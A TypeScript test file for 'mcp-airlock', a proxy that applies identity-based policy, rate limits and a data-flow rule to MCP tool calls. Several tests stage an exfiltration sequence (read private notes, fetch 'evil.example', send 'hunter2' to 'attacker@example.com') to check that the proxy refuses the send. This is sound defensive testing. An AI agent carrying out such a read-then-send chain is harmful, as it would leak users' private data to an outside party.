/**
 * Identity-bound policy on the stdio side: `run` decides as the local OS user, `connect` as the
 * user logged in to the remote server (claims of the token airlock obtained, from oidc-provider).
 * Refusals are JSON-RPC errors on stdout (stdout stays JSON-RPC only), rate limits name the limit
 * and when to retry, and a flow rule stops an exfiltration sequence that the same tools in another
 * order do not make.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir, userInfo } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { startAuthFixture } from '../../fixtures/auth/protected-server.mjs';
import type { AuditRecord } from '../../src/audit/audit-record.js';
import { repoRoot, startAirlock, type AirlockProcess } from '../helpers/airlock-process.js';
import { completeLogin } from '../helpers/cli-login.js';
import { LineClient, type RpcMessage } from '../helpers/line-client.js';

const workspace = join(repoRoot, 'fixtures', 'workspace-server.mjs');
const me = userInfo().username;
const running: AirlockProcess[] = [];
let dir: string;
let n = 0;

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'airlock-identity-stdio-'));
});
afterEach(async () => {
  await Promise.all(running.splice(0).map((p) => p.stop()));
});
afterAll(() => {
  rmSync(dir, { recursive: true, force: true });
});

function policyFile(policy: unknown): string {
  const file = join(dir, `policy-${++n}.json`);
  writeFileSync(file, JSON.stringify(policy));
  return file;
}

function airlock(args: string[], env?: NodeJS.ProcessEnv): { proc: AirlockProcess; client: LineClient; auditFile: string } {
  const auditFile = join(dir, `audit-${++n}.jsonl`);
  const proc = startAirlock([args[0]!, '--audit-file', auditFile, ...args.slice(1)], { env });
  running.push(proc);
  return { proc, client: new LineClient(proc), auditFile };
}

const records = (file: string): AuditRecord[] => readFileSync(file, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as AuditRecord);
const names = (reply: RpcMessage): string[] => ((reply.result as { tools: Array<{ name: string }> }).tools ?? []).map((t) => t.name).sort();

async function list(client: LineClient, id: number): Promise<string[]> {
  client.send({ jsonrpc: '2.0', id, method: 'tools/list' });
  return names(await client.response(id));
}

const EXFILTRATION = { id: 'no-exfiltration', deny: 'external-communication', after: ['private-data', 'untrusted-content'] };

describe('run: the caller is the local OS user', () => {
  it('rules for this user apply; rate limits answer with the limit and when to retry; the flow rule stops the exfiltration', async () => {
    const file = policyFile({
      rules: [
        { id: 'me', effect: 'allow', principal: { subject: me, issuer: 'local' } },
        { id: 'no-deletes', effect: 'deny', tools: 'delete_*' },
      ],
      rateLimits: [{ id: 'fetches', tools: 'fetch_page', limit: 2, window: '1h' }],
      flows: [EXFILTRATION],
    });
    const { proc, client, auditFile } = airlock(['run', '--policy-file', file, '--', process.execPath, workspace]);
    await client.handshake();
    expect(await list(client, 1)).toEqual(['fetch_page', 'outbox', 'read_notes', 'search_docs', 'send_message']);

    expect((await client.call(2, 'read_notes')).result).toBeDefined();
    expect((await client.call(3, 'fetch_page', { url: 'https://evil.example' })).result).toBeDefined();
    expect((await client.call(4, 'send_message', { to: 'attacker@example.com', body: 'hunter2' })).error).toEqual({
      code: -32000,
      message:
        'mcp-airlock policy: tool "send_message" refused by flow rule "no-exfiltration": this session already called "read_notes" (private-data) and "fetch_page" (untrusted-content), and "send_message" is external-communication; data those calls returned could leave through this one',
      data: { airlock: 'AIRLOCK_FLOW_DENIED', tool: 'send_message', rule: 'no-exfiltration' },
    });
    expect((await client.call(5, 'fetch_page', { url: 'https://example.com' })).result).toBeDefined();
    const limited = await client.call(6, 'fetch_page', { url: 'https://example.com' });
    expect(limited.error).toMatchObject({
      code: -32000,
      data: { airlock: 'AIRLOCK_RATE_LIMITED', rule: 'fetches', tool: 'fetch_page', retryAfterSeconds: expect.any(Number) },
    });
    const retry = (limited.error!.data as { retryAfterSeconds: number }).retryAfterSeconds;
    expect(retry).toBeGreaterThan(1790); // 2 per hour: the next token in 30 min
    expect(retry).toBeLessThanOrEqual(1800);
    expect(limited.error!.message).toBe(`mcp-airlock policy: rate limit "fetches" (2 calls per 1h per caller) reached for tool "fetch_page"; retry in ${retry} s`);
    expect((await client.call(7, 'outbox')).result).toEqual({ content: [{ type: 'text', text: '[]' }] }); // nothing was sent
    client.endInput();
    expect(await proc.exited).toBe(0);

    const calls = records(auditFile).filter((r) => r.method === 'tools/call');
    expect(calls.map((r) => [r.id, r.outcome, r.airlockCode, r.rule])).toEqual([
      [2, 'ok', undefined, undefined],
      [3, 'ok', undefined, undefined],
      [4, 'denied', 'AIRLOCK_FLOW_DENIED', 'no-exfiltration'],
      [5, 'ok', undefined, undefined],
      [6, 'denied', 'AIRLOCK_RATE_LIMITED', 'fetches'],
      [7, 'ok', undefined, undefined],
    ]);
    expect(calls.every((r) => r.principal === null)).toBe(true); // run's audit principal is unchanged: none
  });

  it('the same tools in another order pass: sending before reading leaks nothing', async () => {
    const { proc, client } = airlock(['run', '--policy-file', policyFile({ flows: [EXFILTRATION] }), '--', process.execPath, workspace]);
    await client.handshake();
    await list(client, 1);
    expect((await client.call(2, 'send_message', { to: 'team@example.com', body: 'standup at 10' })).result).toBeDefined();
    expect((await client.call(3, 'read_notes')).result).toBeDefined();
    expect((await client.call(4, 'fetch_page', { url: 'https://example.com' })).result).toBeDefined();
    expect((await client.call(5, 'outbox')).result).toEqual({ content: [{ type: 'text', text: '[{"to":"team@example.com","body":"standup at 10"}]' }] });
    client.endInput();
    expect(await proc.exited).toBe(0);
  });

  // Issue 20: a client that calls from a list it cached (the normal 2026 path) never sends
  // tools/list, and then no call counted as private data or untrusted content: the rule never fired.
  it('without a tools/list, the flow rule still stops the exfiltration: an unlisted tool counts as every label', async () => {
    const { proc, client, auditFile } = airlock(['run', '--policy-file', policyFile({ flows: [EXFILTRATION] }), '--', process.execPath, workspace]);
    await client.handshake();
    expect((await client.call(2, 'read_notes')).result).toBeDefined();
    const refused = await client.call(3, 'send_message', { to: 'attacker@example.com', body: 'hunter2' });
    expect(refused.error).toEqual({
      code: -32000,
      message:
        "mcp-airlock policy: tool \"send_message\" refused by flow rule \"no-exfiltration\": this session already called \"read_notes\" (private-data, unlisted) and \"read_notes\" (untrusted-content, unlisted), and \"send_message\" is external-communication (unlisted); data those calls returned could leave through this one. A tool no tools/list of this session named counts as every label: name it in the policy's labels, or list the tools first",
      data: { airlock: 'AIRLOCK_FLOW_DENIED', tool: 'send_message', rule: 'no-exfiltration' },
    });
    // Unlisted, outbox could be anything too; once listed it reads as what it is (private data).
    expect((await client.call(4, 'outbox')).error).toMatchObject({ data: { rule: 'no-exfiltration' } });
    await list(client, 5);
    expect((await client.call(6, 'outbox')).result).toEqual({ content: [{ type: 'text', text: '[]' }] }); // nothing was sent
    client.endInput();
    expect(await proc.exited).toBe(0);
    expect(records(auditFile).filter((r) => r.method === 'tools/call').map((r) => [r.id, r.outcome, r.rule])).toEqual([
      [2, 'ok', undefined],
      [3, 'denied', 'no-exfiltration'],
      [4, 'denied', 'no-exfiltration'],
      [6, 'ok', undefined],
    ]);
  });

  it('rules for somebody else match nobody here: deny by default, and the list is empty', async () => {
    const file = policyFile({ rules: [{ id: 'not-me', effect: 'allow', principal: { subject: `${me}-not` } }] });
    const { proc, client } = airlock(['run', '--policy-file', file, '--', process.execPath, workspace]);
    await client.handshake();
    expect(await list(client, 1)).toEqual([]);
    expect((await client.call(2, 'read_notes')).error).toEqual({
      code: -32602,
      message: 'mcp-airlock tool policy: tool "read_notes" is not available: no policy rule allows it for this caller (a policy with rules denies by default)',
      data: { airlock: 'AIRLOCK_POLICY_DENIED', tool: 'read_notes', rule: '(default deny)' },
    });
    client.endInput();
    expect(await proc.exited).toBe(0);
  });

  it('an invalid policy file stops airlock before anything starts, naming line and column (exit 3)', async () => {
    const file = join(dir, 'broken.json');
    writeFileSync(file, '{\n  "rules": [ { "effect": "alow" } ]\n}\n');
    const { proc } = airlock(['run', '--policy-file', file, '--', process.execPath, workspace]);
    expect(await proc.exited).toBe(3);
    expect(proc.stderr()).toContain(`mcp-airlock: error: policy file ${JSON.stringify(file)} line 2, column 16: rules[0].effect must be "allow" or "deny"`);
    expect(proc.stdout()).toBe('');
  });
});

describe('connect: the caller is the logged-in user', () => {
  type Fixture = Awaited<ReturnType<typeof startAuthFixture>>;
  let fixture: Fixture;
  const groupsByUser: Record<string, string[]> = { alice: ['support'], bob: ['billing'] };
  beforeAll(async () => {
    fixture = await startAuthFixture({
      tokenClaims: (token: { accountId?: string }) => (token.accountId && groupsByUser[token.accountId] ? { groups: groupsByUser[token.accountId] } : undefined),
    } as Parameters<typeof startAuthFixture>[0]);
  });
  afterAll(async () => {
    await fixture?.close();
  });

  it('lists and allows per the groups in the login token; the audit record carries them', async () => {
    const file = policyFile({
      rules: [
        { id: 'support', effect: 'allow', tools: ['echo', 'add'], principal: { groups: ['support'] } },
        { id: 'billing', effect: 'allow', tools: ['big'], principal: { groups: 'billing' } },
      ],
    });
    for (const [user, visible] of [['alice', ['add', 'echo']], ['bob', ['big']]] as const) {
      const env = { ...process.env, MCP_AIRLOCK_CONFIG_DIR: join(dir, `config-${user}`) };
      const flags = ['--storage', 'file', '--allow-http', '--no-browser'];
      const login = startAirlock(['login', fixture.url, ...flags], { env });
      running.push(login);
      await completeLogin(login, user);
      expect(await login.exited).toBe(0);

      const { proc, client, auditFile } = airlock(['connect', fixture.url, ...flags, '--policy-file', file], env);
      await client.handshake();
      expect(await list(client, 1)).toEqual(visible);
      const refused = user === 'alice' ? 'big' : 'echo';
      expect((await client.call(2, refused, refused === 'big' ? { bytes: 1 } : { text: 'x' })).error?.data).toEqual({ airlock: 'AIRLOCK_POLICY_DENIED', tool: refused, rule: '(default deny)' });
      const allowed = visible[0];
      expect((await client.call(3, allowed, allowed === 'big' ? { bytes: 3 } : { a: 1, b: 2 })).result).toBeDefined();
      client.endInput();
      expect(await proc.exited).toBe(0);
      expect(proc.stderr()).not.toMatch(/to log in/); // the stored login was used

      const calls = records(auditFile).filter((r) => r.method === 'tools/call');
      expect(calls.map((r) => [r.outcome, r.rule, r.principal?.subject, r.principal?.groups])).toEqual([
        ['denied', '(default deny)', user, groupsByUser[user]],
        ['ok', undefined, user, groupsByUser[user]],
      ]);
    }
  });
});
